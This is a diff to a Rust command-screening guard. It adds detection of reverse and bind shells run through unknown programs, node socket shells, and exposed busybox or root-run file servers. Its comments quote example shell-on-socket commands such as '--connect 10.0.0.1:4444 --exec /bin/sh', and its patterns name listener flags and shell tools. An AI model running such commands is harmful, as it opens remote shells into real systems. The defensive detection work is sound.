@@ -89,6 +89,46 @@ fn tunnel_inspects(args: &[String]) -> bool {
 }
 
 /// Whether `addr` is a loopback address (`127.0.0.1`, `localhost`, `::1`), possibly with a port.
+/// `zorp --connect 10.0.0.1:4444 --exec /bin/sh`, `zorp tcp:host:4444 exec:/bin/sh`, `zorp -l
+/// -p 4444 -e sh`: a program the guard does not know, handed a network address (or a port to
+/// listen on) and a shell, wires the two together; what it is for is a reverse or bind shell.
+fn socket_shell(cmd: &SimpleCommand) -> bool {
+    use super::remote_execution::{names_network_address, port_number, unknown_program};
+    if !unknown_program(cmd) {
+        return false;
+    }
+    let args = &cmd.argv[1..];
+    let listens = args.iter().enumerate().any(|(i, a)| {
+        let port_after = || args.get(i + 1).is_some_and(|p| port_number(p));
+        match a.split_once('=') {
+            Some((k, v)) if k.starts_with("--") => {
+                matches!(k, "--port" | "--listen" | "--bind") && port_number(v.rsplit(':').next().unwrap_or(v))
+            }
+            _ => {
+                matches!(
+                    a.as_str(),
+                    "-p" | "--port" | "-lp" | "-lvp" | "-lnvp" | "-nlvp" | "--listen"
+                ) && port_after()
+            }
+        }
+    });
+    // A shell word: `/bin/sh`, `sh`, `exec:/bin/sh`, `--exec=bash -i`, or a bare `--shell`.
+    let shell = args.iter().any(|a| {
+        let value = a
+            .split_once('=')
+            .filter(|(k, _)| k.starts_with('-'))
+            .map_or(a.as_str(), |(_, v)| v);
+        let value = value
+            .split_once(':')
+            .filter(|(k, _)| matches!(k.to_ascii_lowercase().as_str(), "exec" | "system"))
+            .map_or(value, |(_, v)| v);
+        let first = value.split_whitespace().next().unwrap_or("");
+        matches!(a.as_str(), "--shell" | "-shell")
+            || (!first.starts_with('-') && crate::guard::carriers::is_shell(crate::guard::basename(first)))
+    });
+    shell && (listens || names_network_address(cmd))
+}
+
 fn loopback(addr: &str) -> bool {
     let a = addr.trim_start_matches('[');
     a.starts_with("127.") || a.starts_with("localhost") || a.starts_with("::1")
@@ -164,7 +204,7 @@ pub fn check(cmd: &SimpleCommand, out: &mut Vec<Violation>) {
     if inline
         && argv.iter().skip(1).any(|code| {
             let lower = code.to_ascii_lowercase();
-            lower.contains("socket")
+            (lower.contains("socket") || lower.contains("require(\"net\")") || lower.contains("net.connect"))
                 && (lower.contains("dup2")
                     || lower.contains("pty.spawn")
                     || lower.contains("fsockopen")
@@ -193,6 +233,16 @@ pub fn check(cmd: &SimpleCommand, out: &mut Vec<Violation>) {
             Risk::Critical,
             cmd,
             "opens a shell connection through /dev/tcp",
+        ));
+        return;
+    }
+    if socket_shell(cmd) {
+        out.push(block(
+            n,
+            REVERSE_SHELL,
+            Risk::Critical,
+            cmd,
+            format!("`{name}`, which the guard does not know, is handed both a network address and a shell: a shell on a socket"),
         ));
         return;
     }
@@ -506,6 +556,7 @@ pub fn check(cmd: &SimpleCommand, out: &mut Vec<Violation>) {
         return;
     }
     python_file_server(cmd, out);
+    busybox_httpd(cmd, out);
 }
 
 /// A Python file-server module and the options that bind it, name the directory served, let
@@ -594,7 +645,7 @@ fn python_file_server(cmd: &SimpleCommand, out: &mut Vec<Violation>) {
     let served = value(dir)
         .map(str::to_string)
         .or_else(|| cmd.cwd.as_deref().map(|c| c.to_string_lossy().into_owned()));
-    let keys = served.as_deref().is_some_and(holds_keys);
+    let keys = served.as_deref().is_some_and(holds_keys) || served_as_root(cmd);
     let writable = write.contains(&"*") || argv.iter().any(|a| write.contains(&a.as_str()));
     if keys || writable {
         out.push(block(
@@ -605,7 +656,7 @@ fn python_file_server(cmd: &SimpleCommand, out: &mut Vec<Violation>) {
             if writable {
                 "lets anyone on the network write files here, with no login"
             } else {
-                "serves the home directory or the system's root, with its keys, to every host on the network"
+                "serves the home directory or the system's root, with its keys, or serves as root, to every host on the network"
             },
         ));
     } else {
@@ -616,6 +667,60 @@ fn python_file_server(cmd: &SimpleCommand, out: &mut Vec<Violation>) {
             format!("python -m {module} serves the directory on every interface, with no login"),
         ));
     }
+}
+
+/// `busybox httpd -f -p 8080 -h .`: a file server on every interface unless `-p` names a
+/// loopback address. Warned like `python -m http.server`; blocked as root.
+fn busybox_httpd(cmd: &SimpleCommand, out: &mut Vec<Violation>) {
+    let argv = &cmd.argv;
+    // Unwrapped, `busybox httpd` is `httpd`; Apache's `httpd` takes neither `-p` nor `-h DIR`.
+    let value = |o: &str| argv.windows(2).find(|w| w[0] == o).map(|w| w[1].as_str());
+    let busybox = match cmd.name() {
+        "busybox" => argv.get(1).is_some_and(|a| a == "httpd"),
+        "httpd" => value("-p").is_some() || value("-h").is_some_and(|h| !h.starts_with('-')),
+        _ => false,
+    };
+    if !busybox {
+        return;
+    }
+    if value("-p").is_some_and(|p| p.rsplit_once(':').is_some_and(|(h, _)| !all_interfaces(h))) {
+        return;
+    }
+    if served_as_root(cmd) || value("-h").is_some_and(holds_keys) {
+        out.push(block(
+            Category::Network,
+            EXPOSED_BIND,
+            Risk::High,
+            cmd,
+            "busybox httpd serves files as root, or a folder holding keys, to every host on the network, with no login",
+        ));
+    } else {
+        out.push(warn(
+            Category::Network,
+            EXPOSED_BIND,
+            cmd,
+            "busybox httpd serves the directory on every interface, with no login",
+        ));
+    }
+}
+
+/// Whether a server runs with root's rights: under a privilege wrapper, or on a port below
+/// 1024, which only root may bind (`python3 -m http.server 80`, `-p 443`, `-S 0.0.0.0:80`). A
+/// file server run so serves whatever root can read.
+pub(crate) fn served_as_root(cmd: &SimpleCommand) -> bool {
+    let privileged = |w: &str| w.parse::<u16>().is_ok_and(|p| (1..1024).contains(&p));
+    let args = &cmd.argv[1.min(cmd.argv.len())..];
+    cmd.as_root
+        || args.iter().enumerate().any(|(i, a)| {
+            let port_option = matches!(a.as_str(), "-p" | "--port" | "-P") && args.get(i + 1).is_some_and(|p| privileged(p));
+            let glued = a
+                .strip_prefix("--port=")
+                .or_else(|| a.rsplit_once(':').filter(|(h, _)| h.contains('.') || h.is_empty()).map(|(_, p)| p))
+                .is_some_and(privileged);
+            port_option || glued
+        })
+        // `python3 -m http.server 80`: the module's port operand.
+        || (cmd.name().starts_with("python") && args.iter().any(|a| privileged(a)))
 }
 
 /// Whether serving `dir` hands out the user's or the system's keys: the root, a system state
